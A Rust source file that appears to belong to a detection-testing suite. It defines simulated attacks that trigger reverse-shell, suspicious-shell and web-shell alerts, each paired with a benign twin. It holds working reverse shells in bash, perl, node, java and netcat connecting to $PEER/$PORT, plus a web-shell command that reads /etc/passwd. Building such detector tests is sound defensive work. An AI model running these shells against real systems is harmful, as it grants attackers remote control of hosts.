//! Shells that obey somebody else.

use super::{Act, HOST, PYTHON};

const SHELL: Act = Act {
    listens: true,
    finds: &["Execution:Host/ReverseShell"],
    twin: "an administrator logs in, looks around and edits",
    ..HOST
};

pub(super) const ACTS: &[Act] = &[
    Act {
        name: "ReverseShell: bash",
        script: "bash -c 'bash -i >& /dev/tcp/'$PEER/$PORT' 0>&1'",
        ..SHELL
    },
    Act {
        name: "ReverseShell: python",
        needs: &["python3"],
        script: "python3 $ACT shell_over $PEER $PORT",
        ..SHELL
    },
    Act {
        name: "ReverseShell: perl",
        needs: &["perl"],
        script: r#"perl -e 'use Socket;
socket(S,PF_INET,SOCK_STREAM,6); connect(S,sockaddr_in($ENV{PORT},inet_aton($ENV{PEER})));
open(STDIN,">&S"); open(STDOUT,">&S"); open(STDERR,">&S"); exec("/bin/sh -i");'"#,
        ..SHELL
    },
    Act {
        name: "ReverseShell: node",
        needs: &["node"],
        script: r#"node -e '
const s = require("net").connect(+process.env.PORT, process.env.PEER, () => {
  const c = require("child_process").spawn("/bin/sh", ["-i"]);
  s.pipe(c.stdin); c.stdout.pipe(s); c.stderr.pipe(s); c.on("exit", () => process.exit(0));
})'"#,
        ..SHELL
    },
    Act {
        name: "ReverseShell: java",
        needs: &["java"],
        script: r#"
cat > $D/R.java <<'JAVA'
import java.io.*; import java.net.*;
public class R {
  static void pump(InputStream in, OutputStream out) { new Thread(() -> { try { int b;
    while ((b = in.read()) >= 0) { out.write(b); out.flush(); } } catch (IOException e) {} }).start(); }
  public static void main(String[] a) throws Exception {
    Socket s = new Socket(System.getenv("PEER"), Integer.parseInt(System.getenv("PORT")));
    Process p = new ProcessBuilder("/bin/sh", "-i").redirectErrorStream(true).start();
    pump(s.getInputStream(), p.getOutputStream()); pump(p.getInputStream(), s.getOutputStream());
    p.waitFor(); System.exit(0);
  }
}
JAVA
java $D/R.java"#,
        ..SHELL
    },
    Act {
        name: "ReverseShell: a named pipe and nc",
        needs: &["busybox"],
        script: "mkfifo $D/f; cat $D/f | sh -i 2>&1 | busybox nc $PEER $PORT > $D/f",
        ..SHELL
    },
    Act {
        name: "SuspiciousShellCreated",
        finds: &["Execution:Host/SuspiciousShellCreated"],
        twin: "a service runs its helper",
        script: "ip link set lo up; python3 $ACT serve_shell 18081 & sleep 2; \
            python3 $ACT poke 18081; wait",
        ..PYTHON
    },
    Act {
        name: "WebShell",
        finds: &["InitialAccess:Host/WebShell"],
        twin: "a service runs its helper",
        script: "ip link set lo up; python3 $ACT serve 18082 'id; uname -a; cat /etc/passwd' & sleep 2; \
            python3 $ACT poke 18082; wait",
        ..PYTHON
    },
];
